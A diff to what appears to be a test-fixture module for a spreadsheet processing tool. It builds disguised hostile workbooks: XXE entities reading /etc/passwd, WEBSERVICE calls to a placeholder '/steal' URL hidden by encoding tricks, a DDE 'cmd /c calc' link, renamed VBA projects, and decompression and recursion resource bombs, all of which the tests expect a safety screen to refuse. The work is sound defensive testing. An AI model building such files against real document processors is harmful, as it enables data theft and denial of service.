@@ -62,6 +62,8 @@ def package(
     macro: bool = False,
     compression: int = zipfile.ZIP_DEFLATED,
     drop: tuple[str, ...] = (),
+    overrides: tuple[tuple[str, str], ...] = (),
+    rels: tuple[tuple[str, str, str], ...] = (),
 ) -> Path:
     """Write a minimal .xlsx (or .xlsm with ``macro``) package holding one sheet named "S"."""
     main_type = (
@@ -69,14 +71,18 @@ def package(
         if macro
         else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
     )
-    overrides = [
-        ("/xl/workbook.xml", main_type),
-        (
-            "/xl/worksheets/sheet1.xml",
-            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
-        ),
-    ]
-    rels = [("rId1", "worksheet", "worksheets/sheet1.xml")]
+
+    def overrides_base():
+        return [
+            ("/xl/workbook.xml", main_type),
+            (
+                "/xl/worksheets/sheet1.xml",
+                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
+            ),
+        ]
+
+    overrides = [*overrides_base(), *overrides]
+    rels = [("rId1", "worksheet", "worksheets/sheet1.xml"), *rels]
     if strings is not None:
         overrides.append(
             (
@@ -114,7 +120,7 @@ def package(
     def rel_type(kind: str) -> str:
         if kind == "vbaProject":
             return "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
-        return f"{REL}/{kind}"
+        return kind if "/" in kind else f"{REL}/{kind}"
 
     wb_rels = (
         f'{XML_DECL}<Relationships xmlns="{PKG_REL}">'
@@ -384,6 +390,328 @@ def formula_text_result(d: Path) -> Path:
     )
 
 
+# --- what the screen must find, however it is disguised (issue 24) ----------------------------
+
+WEB = 'WEBSERVICE("http://127.0.0.1:9/steal")'
+_DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+_OK_CELLS = (cell("A1", 2), cell("A2", 4, f="A1*2"))
+
+
+def dtd_after_4k(d: Path) -> Path:
+    """A DTD after a 5,000-character comment: past the first 4 KB of the part."""
+    xml = sheet(*_OK_CELLS).replace(XML_DECL, XML_DECL + "<!--" + "x" * 5000 + "-->" + _DOCTYPE)
+    return package(d / "dtd_late.xlsx", xml)
+
+
+def dtd_utf16_sheet(d: Path) -> Path:
+    """A worksheet in UTF-16 (with its byte-order mark) declaring a DTD."""
+    xml = sheet(*_OK_CELLS).replace(XML_DECL, '<?xml version="1.0" encoding="UTF-16"?>' + _DOCTYPE)
+    return package(d / "dtd_utf16.xlsx", xml.encode("utf-16"))
+
+
+def dtd_utf16_content_types(d: Path) -> Path:
+    """[Content_Types].xml in UTF-16 declaring a DTD (the engine never reads that part)."""
+    path = package(d / "dtd_utf16_types.xlsx", sheet(*_OK_CELLS))
+    with zipfile.ZipFile(path) as z:
+        members = {n: z.read(n) for n in z.namelist()}
+    text = members["[Content_Types].xml"].decode().replace(XML_DECL, "")
+    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Types [<!ENTITY e "x">]>' + text
+    members["[Content_Types].xml"] = doc.encode("utf-16")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return path
+
+
+def cf_char_references(d: Path) -> Path:
+    """WEBSERVICE in a conditional format, its parentheses written as character references."""
+    rule = WEB.replace("(", "&#40;").replace(")", "&#41;").replace('"', "&quot;")
+    cf = (
+        f'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{rule}'
+        "</formula></cfRule></conditionalFormatting>"
+    )
+    return package(d / "cf_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))
+
+
+def dv_char_references(d: Path) -> Path:
+    """WEBSERVICE in a data-validation list, its W written as ``&#87;``."""
+    rule = "&#87;" + escape(WEB[1:], {'"': "&quot;"})
+    dv = (
+        f'<dataValidations count="1"><dataValidation type="list" sqref="B1"><formula1>{rule}'
+        "</formula1></dataValidation></dataValidations>"
+    )
+    return package(d / "dv_charref.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + dv))
+
+
+def comment_hides_cf(d: Path) -> Path:
+    """``<!-- sheetData> -->`` after a conditional format: a text cut from the first "sheetData" to
+    the last "sheetData>" would skip the format."""
+    cf = (
+        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
+        f"{escape(WEB)}</formula></cfRule></conditionalFormatting><!-- sheetData> -->"
+    )
+    return package(d / "comment_cut.xlsx", sheet(*_OK_CELLS).replace("</sheetData>", "</sheetData>" + cf))
+
+
+def dde_link_renamed(d: Path) -> Path:
+    """A DDE external link stored as xl/misc/data1.xml, found only by its relationship and type."""
+    link = (
+        f'{XML_DECL}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
+        '<ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
+    )
+    return package(
+        d / "dde_renamed.xlsx",
+        sheet(*_OK_CELLS),
+        extra={"xl/misc/data1.xml": link.encode()},
+        overrides=(("/xl/misc/data1.xml", _CT + "externalLink+xml"),),
+        rels=(("rId7", "externalLink", "misc/data1.xml"),),
+    )
+
+
+def vba_renamed(d: Path) -> Path:
+    """A VBA project stored as xl/stuff.dat, found by its relationship and content type."""
+    return package(
+        d / "vba_renamed.xlsm",
+        sheet(*_OK_CELLS),
+        macro=False,
+        extra={"xl/stuff.dat": VBA_BYTES},
+        overrides=(("/xl/stuff.dat", "application/vnd.ms-office.vbaProject"),),
+        rels=(("rId8", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "stuff.dat"),),
+    )
+
+
+def web_query_renamed(d: Path) -> Path:
+    """A web-query data connection stored as xl/misc/c.xml."""
+    conn = (
+        f'{XML_DECL}<connections xmlns="{MAIN}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
+        '<webPr url="http://127.0.0.1:9/steal"/></connection></connections>'
+    )
+    return package(
+        d / "webquery_renamed.xlsx",
+        sheet(*_OK_CELLS),
+        extra={"xl/misc/c.xml": conn.encode()},
+        overrides=(("/xl/misc/c.xml", _CT + "connections+xml"),),
+        rels=(("rId9", "connections", "misc/c.xml"),),
+    )
+
+
+def case_duplicates(d: Path) -> Path:
+    """Two members whose names differ only in case (OPC part names are case-insensitive)."""
+    bad = sheet(cell("A1", 2), cell("A2", f=WEB, v="stored", t="str"))
+    return package(d / "case_dup.xlsx", sheet(*_OK_CELLS), extra={"xl/worksheets/Sheet1.xml": bad.encode()})
+
+
+def quoted_sheet_webservice(d: Path) -> Path:
+    """A quote inside a quoted sheet name before WEBSERVICE: a text match of strings goes astray."""
+    return package(
+        d / "quoted_sheet.xlsx", sheet(cell("A1", 1), cell("A2", "x", f=f"'a\"b'!A2&{WEB}", t="str"))
+    )
+
+
+#: the disguised files: each must be refused by every door that hands a file to LibreOffice
+#: (render, open --convert-to, recalc --engine libreoffice), with this fragment in its one line
+SCREENED = {
+    "dtd_after_4k": (dtd_after_4k, "declares a DTD"),
+    "dtd_utf16_sheet": (dtd_utf16_sheet, "declares a DTD"),
+    "dtd_utf16_content_types": (dtd_utf16_content_types, "declares a DTD"),
+    "cf_char_references": (cf_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "dv_char_references": (dv_char_references, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "comment_hides_cf": (comment_hides_cf, "WEBSERVICE (xl/worksheets/sheet1.xml)"),
+    "dde_link_renamed": (dde_link_renamed, "external link (DDE) (xl/misc/data1.xml)"),
+    "vba_renamed": (vba_renamed, "macros (VBA project) (xl/stuff.dat)"),
+    "web_query_renamed": (web_query_renamed, "data connection (xl/misc/c.xml)"),
+    "case_duplicates": (
+        case_duplicates,
+        "two parts named xl/worksheets/Sheet1.xml and xl/worksheets/sheet1.xml",
+    ),
+    "quoted_sheet_webservice": (quoted_sheet_webservice, "WEBSERVICE"),
+}
+
+
+# --- resource bombs under the 1000:1 compression limit (issue 24) -------------------------------
+# Each is written piece by piece (never held whole) with a little randomness, so that it deflates
+# about a hundred to one like the red team's files, not a thousand (the zip-bomb check).
+
+
+def _noise(rng, n: int) -> list[str]:
+    return ["".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(6)) for _ in range(n)]
+
+
+def strings_bomb(d: Path) -> Path:
+    """55 million shared strings (the red team's 2.7 MB file took 168 s and 4.85 GiB)."""
+    import random
+
+    rng = random.Random(24)
+    block = "".join("<si/>" * 99 + f"<si><t>{w}</t></si>" for w in _noise(rng, 100)).encode()
+    head = f'{XML_DECL}<sst xmlns="{MAIN}">'.encode()
+    pieces = [head, *([block] * 5_500), b"</sst>"]
+    path = d / "strings_bomb.xlsx"
+    package(path, sheet(cell("A1", 0, t="s"), cell("B1", 1, f="LEN(A1)")), strings=shared_strings("x"))
+    return _replace(path, {"xl/sharedStrings.xml": pieces})
+
+
+def cells_bomb(d: Path) -> Path:
+    """30 million cells (the red team's 1.3 MB file took 254 s and 3.3 GiB)."""
+    import random
+
+    rng = random.Random(30)
+    row = "".join("<c/>" * 99 + f'<c t="inlineStr"><is><t>{w}</t></is></c>' for w in _noise(rng, 10)).encode()
+    rows = [b'<row r="%d">' % r + row + b"</row>" for r in range(1, 30_001)]
+    head = f'{XML_DECL}<worksheet xmlns="{MAIN}"><sheetData>'.encode()
+    path = package(d / "cells_bomb.xlsx", sheet(cell("A1", 1)))
+    return _replace(path, {"xl/worksheets/sheet1.xml": [head, *rows, b"</sheetData></worksheet>"]})
+
+
+def comments_bomb(d: Path, sheets: int = 3, size: int = 500_000_000) -> Path:
+    """Sheets of 500 MB of XML comments (the red team's 8 were killed at 300 s, 4.7 GiB); three
+    are enough to pass the 1 GiB budget on what one package unpacks to."""
+    import random
+
+    rng = random.Random(8)
+    block = ("<!--" + "".join(w + " " * 94 for w in _noise(rng, 10_000)) + "-->").encode()
+    body = [f'{XML_DECL}<worksheet xmlns="{MAIN}">'.encode(), *[block] * (size // len(block))]
+    body.append(b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>')
+    path = package(d / "comments_bomb.xlsx", sheet(cell("A1", 1)))
+    members = {"xl/worksheets/sheet1.xml": body}
+    extra_sheets = [f"xl/worksheets/sheet{i}.xml" for i in range(2, sheets + 1)]
+    for name in extra_sheets:
+        members[name] = body
+    return _replace(path, members, sheets=extra_sheets)
+
+
+def styles_bomb(d: Path) -> Path:
+    """Two million cell formats (the red team's 1.3 MB file took LibreOffice 66 s and 1.9 GiB)."""
+    import random
+
+    rng = random.Random(13)
+    block = "".join(
+        '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 99 + f'<xf numFmtId="{n}"/>'
+        for n in (rng.randrange(1 << 30) for _ in range(100))
+    ).encode()
+    styles = [
+        f'{XML_DECL}<styleSheet xmlns="{MAIN}"><cellXfs count="2000000">'.encode(),
+        *[block] * 200,
+        b"</cellXfs></styleSheet>",
+    ]
+    path = package(
+        d / "styles_bomb.xlsx",
+        sheet(cell("A1", 2), cell("A2", 4, f="A1*2")),
+        overrides=(("/xl/styles.xml", _CT + "styles+xml"),),
+        rels=(("rId5", "styles", "styles.xml"),),
+    )
+    return _replace(path, {"xl/styles.xml": styles})
+
+
+def names_bomb(d: Path, levels: int = 30) -> Path:
+    """Defined names nm_i = nm_(i-1) + nm_(i-1): 2^30 terms written out (hours; --timeout ignored)."""
+    names = {"nm_0": "1", **{f"nm_{i}": f"nm_{i - 1}+nm_{i - 1}" for i in range(1, levels + 1)}}
+    return package(d / "names_bomb.xlsx", sheet(cell("A1", 0, f=f"nm_{levels}")), names=names)
+
+
+def deep_names(d: Path, levels: int = 100) -> Path:
+    """A defined name through 100 others (silently #NAME? before)."""
+    names = {"nm_0": "1", **{f"nm_{i}": f"nm_{i - 1}+1" for i in range(1, levels + 1)}}
+    return package(d / "deep_names.xlsx", sheet(cell("A1", levels + 1, f=f"nm_{levels}")), names=names)
+
+
+def product_bomb(d: Path) -> Path:
+    """Each operand passes the size checks; their product holds 17 billion cells (a MemoryError)."""
+    return package(d / "product.xlsx", sheet(cell("A1", 0, f="SUM(SEQUENCE(1048576)*SEQUENCE(1,16384))")))
+
+
+def deep_spec(d: Path) -> Path:
+    """A scenario SPEC nested 100,000 deep (a RecursionError before)."""
+    path = d / "deep.toml"
+    path.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
+    return path
+
+
+def _replace(path: Path, members: dict[str, list[bytes]], sheets: list[str] = ()) -> Path:
+    """Rewrite ``path`` with ``members`` streamed in (and ``sheets`` listed in the workbook)."""
+    with zipfile.ZipFile(path) as z:
+        keep = {n: z.read(n) for n in z.namelist() if n not in members}
+    if sheets:
+        wb = keep["xl/workbook.xml"].decode()
+        rels = keep["xl/_rels/workbook.xml.rels"].decode()
+        types = keep["[Content_Types].xml"].decode()
+        for i, name in enumerate(sheets, 2):
+            wb = wb.replace("</sheets>", f'<sheet name="S{i}" sheetId="{i}" r:id="rS{i}"/></sheets>')
+            rels = rels.replace(
+                "</Relationships>",
+                f'<Relationship Id="rS{i}" Type="{REL}/worksheet" Target="{name[3:]}"/></Relationships>',
+            )
+            types = types.replace(
+                "</Types>", f'<Override PartName="/{name}" ContentType="{_CT}worksheet+xml"/></Types>'
+            )
+        keep.update({"xl/workbook.xml": wb.encode(), "xl/_rels/workbook.xml.rels": rels.encode()})
+        keep["[Content_Types].xml"] = types.encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
+        for name, data in keep.items():
+            z.writestr(name, data)
+        for name, pieces in members.items():
+            with z.open(name, "w", force_zip64=True) as fh:
+                for piece in pieces:
+                    fh.write(piece)
+    return path
+
+
+def renamed_xlsx(d: Path) -> Path:
+    """A workbook with WEBSERVICE named .csv: LibreOffice goes by the content, so does the screen."""
+    path = quoted_sheet_webservice(d)
+    return path.rename(d / "looks_like.csv")
+
+
+def flat_xml_dtd(d: Path) -> Path:
+    """A SpreadsheetML 2003 document (one XML file LibreOffice opens) declaring an entity."""
+    path = d / "flat.xml"
+    path.write_text(
+        '<?xml version="1.0"?><!DOCTYPE Workbook [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row>'
+        "<Cell><Data>&e;</Data></Cell></Row></Table></Worksheet></Workbook>"
+    )
+    return path
+
+
+def ods_webservice(d: Path) -> Path:
+    """An OpenDocument spreadsheet whose cell calls WEBSERVICE (``of:=`` syntax)."""
+    path = d / "web.ods"
+    content = (
+        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
+        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
+        '<office:body><office:spreadsheet><table:table table:name="S"><table:table-row>'
+        '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://127.0.0.1:9/&quot;)"/>'
+        "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
+    )
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
+        z.writestr("content.xml", content)
+    return path
+
+
+#: files given to ``gputco open --convert-to`` under other names or formats
+OPEN_SCREENED = {
+    "renamed_xlsx": (renamed_xlsx, "WEBSERVICE (S!A2)"),
+    "flat_xml_dtd": (flat_xml_dtd, "declares a DTD"),
+    "ods_webservice": (ods_webservice, "WEBSERVICE (content.xml)"),
+}
+
+
+#: the resource bombs: (make, the command run on the file, its one-line refusal's fragment);
+#: each must be refused with exit 2 within 60 s and 2 GiB (tests/test_hostile.py, a child process)
+BOMBS = {
+    "strings_bomb": (strings_bomb, ["recalc", "--check"], "budget max_strings"),
+    "cells_bomb": (cells_bomb, ["recalc", "--check"], "budget max_cells"),
+    "comments_bomb": (comments_bomb, ["recalc", "--check"], "budget max_total_bytes"),
+    "styles_bomb": (styles_bomb, ["render", "--png", "{tmp}/png"], "budget max_styles"),
+    "names_bomb": (names_bomb, ["recalc", "--check", "--timeout", "20"], "budget max_name_size"),
+    "deep_names": (deep_names, ["recalc", "--check"], "budget max_name_depth"),
+    "product_bomb": (product_bomb, ["recalc", "--check"], "budget max_array_cells"),
+    "deep_spec": (deep_spec, ["scenarios", "-o", "{tmp}/s.xlsx"], "budget max_spec_depth"),
+}
+
+
 def _col(n: int) -> str:
     s = ""
     while n:
@@ -425,4 +753,16 @@ CORPUS: dict[str, Case] = {
     "too_many_parts": Case(too_many_parts, 2, "parts (limit 10000)"),
     "malformed_xml": Case(malformed_xml, 2, "is not well-formed XML"),
     "missing_sheet_part": Case(missing_sheet_part, 2, "points to a missing part"),
+    # the engine computes what it reads; LibreOffice is never given them (SCREENED)
+    "dtd_after_4k": Case(dtd_after_4k, 2, "declares a DTD or entities; refused for safety"),
+    "dtd_utf16_sheet": Case(dtd_utf16_sheet, 2, "declares a DTD or entities; refused for safety"),
+    "dtd_utf16_content_types": Case(dtd_utf16_content_types, 0, "0 cells differ"),
+    "cf_char_references": Case(cf_char_references, 0, "0 cells differ"),
+    "dv_char_references": Case(dv_char_references, 0, "0 cells differ"),
+    "comment_hides_cf": Case(comment_hides_cf, 0, "0 cells differ"),
+    "dde_link_renamed": Case(dde_link_renamed, 0, "0 cells differ"),
+    "vba_renamed": Case(vba_renamed, 0, "0 cells differ"),
+    "web_query_renamed": Case(web_query_renamed, 0, "0 cells differ"),
+    "case_duplicates": Case(case_duplicates, 2, "part names are case-insensitive"),
+    "quoted_sheet_webservice": Case(quoted_sheet_webservice, 2, "unsupported functions or features"),
 }
